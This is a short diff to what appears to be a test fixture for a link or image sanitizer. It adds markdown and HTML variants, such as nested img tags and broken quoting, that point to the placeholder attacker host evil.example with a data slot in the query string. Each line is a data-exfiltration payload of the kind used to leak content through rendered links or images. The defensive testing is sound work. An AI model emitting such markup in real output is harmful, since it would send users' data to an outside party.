@@ -48,11 +48,16 @@ FOREIGN = r"""
 [x](https://corp.local:@/)
 [x]: https://evil.example/?q=@
 [x]: <https://evil.example/?q=@>
+[x]: https://evil.example/?q=<i>@
+[x]:https://evil.example/?q=</i>@
 <https://evil.example/?q=@>
 <a href="https://evil.example/?q=@">x</a>
 <a href='https://evil.example/?q=@'>x</a>
 <a href=https://evil.example/?q=@>x</a>
 <img src=https://evil.example/?q=<@>
+"https://a.example/ <img src="https://evil.example/?q= @">
+(https://a.example/ <img src="https://evil.example/?q=) @">
+<a href="<img src='https://evil.example/?q=>@'>
 <a href = "https://evil.example/?q=@">x</a>
 <img src="https://evil.example/?q=@">
 <img src='//evil.example/?q=@'>
